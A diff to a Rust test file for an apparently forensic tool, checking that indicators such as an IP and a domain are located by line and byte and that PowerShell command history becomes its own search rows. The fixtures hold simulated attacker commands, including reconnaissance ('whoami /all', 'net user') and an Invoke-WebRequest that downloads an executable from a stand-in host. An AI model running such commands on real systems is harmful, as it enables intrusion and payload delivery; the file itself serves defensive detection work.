@@ -16,7 +16,7 @@ fn case() -> Scratch {
     let scratch = Scratch::new();
     let history =
         "whoami /all\r\nnet user\r\nInvoke-WebRequest http://203.0.113.7/x.exe -OutFile C:\\x.exe\r\n";
-    scratch.write("ev/MX01/C/Users/a/ConsoleHost_history.txt", history);
+    scratch.write("ev/MX01/C/Users/a/typed.txt", history);
     scratch.write("ev/MX01/C/Windows/run.vbs", wide("rem first\r\nx = \"cdn.evil.example\"\r\n"));
     scratch.write(
         "ev/MX01/C/Windows/app.config",
@@ -41,10 +41,7 @@ fn indicators_are_seen_in_texts_with_line_and_byte() {
             one["rows"][0]["offset"].clone(),
         ))
     };
-    assert_eq!(
-        place("203.0.113.7"),
-        Some(("ev/MX01/C/Users/a/ConsoleHost_history.txt".to_owned(), json!(3), json!(23)))
-    );
+    assert_eq!(place("203.0.113.7"), Some(("ev/MX01/C/Users/a/typed.txt".to_owned(), json!(3), json!(23))));
     assert_eq!(place("evil.example"), Some(("ev/MX01/C/Windows/run.vbs".to_owned(), json!(2), json!(24))));
     assert_eq!(seen.len(), 2, "an address is not a part of another");
     assert_eq!(scratch.summary()["events"], json!(0), "a line is no event");
@@ -69,4 +66,14 @@ fn texts_are_searched_and_open_again_from_the_sealed_file() {
     let shown = scratch.piste(&["show", &record, "--case", CASE, "--proof"]).expect(0).out;
     assert!(shown.contains("the same as when the row was made"), "{shown}");
     assert!(shown.contains("The whole file is as sealed"), "{shown}");
+}
+
+#[test]
+fn what_was_typed_in_powershell_is_rows_of_its_own() {
+    let scratch = Scratch::new();
+    scratch.write("MX01/C/Users/a/AppData/ConsoleHost_history.txt", "whoami /all\r\nnet user\r\n");
+    scratch.investigate("MX01 --quiet").expect(0);
+    let found = scratch.piste(&["search", "whoami", "--case", CASE]).expect(0).out;
+    assert!(found.contains("powershell.history") && found.contains("MX01"), "{found}");
+    assert_eq!(scratch.summary()["records_read"], json!(2));
 }
